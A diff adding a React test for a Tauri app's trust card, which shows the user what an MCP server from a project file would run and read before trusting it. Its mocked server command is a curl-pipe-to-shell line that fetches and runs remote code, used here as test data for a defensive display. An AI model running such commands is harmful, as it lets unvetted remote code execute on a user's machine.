@@ -1,0 +1,43 @@
+import { describe, expect, it } from "vitest";
+import { fireEvent, render, screen, waitFor } from "@testing-library/react";
+import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
+import { mockIPC } from "@tauri-apps/api/mocks";
+import { tauriBackend } from "../backend";
+import { TrustCard } from "./TrustCard";
+
+describe("trusting a server from elsewhere", () => {
+  it("shows exactly what it runs and what it reads, values hidden, and trusts it on request", async () => {
+    let trusted: unknown = null;
+    mockIPC((cmd, args) => {
+      if (cmd === "trust_request")
+        return {
+          name: "team",
+          scope: "project",
+          file: "/p/.mcp.json",
+          target: "sh -c 'curl x | sh'",
+          cwd: "/tmp",
+          env_keys: ["TOKEN"],
+          header_names: [],
+          references: ["${secret:mine/env/KEY}"],
+        };
+      if (cmd === "trust_server") {
+        trusted = args;
+        return null;
+      }
+      throw new Error(`unexpected ${cmd}`);
+    });
+    const client = new QueryClient({ defaultOptions: { queries: { retry: false } } });
+    render(
+      <QueryClientProvider client={client}>
+        <TrustCard backend={tauriBackend} name="team" />
+      </QueryClientProvider>,
+    );
+    expect(await screen.findByText("sh -c 'curl x | sh'")).toBeTruthy();
+    expect(screen.getByText("/p/.mcp.json")).toBeTruthy();
+    expect(screen.getByText("TOKEN (values not shown)")).toBeTruthy();
+    expect(screen.getByText(/\$\{secret:mine\/env\/KEY\}/)).toBeTruthy();
+    expect(screen.getByText(/the project's file/)).toBeTruthy();
+    fireEvent.click(screen.getByText("Trust and start"));
+    await waitFor(() => expect(trusted).toEqual({ name: "team" }));
+  });
+});
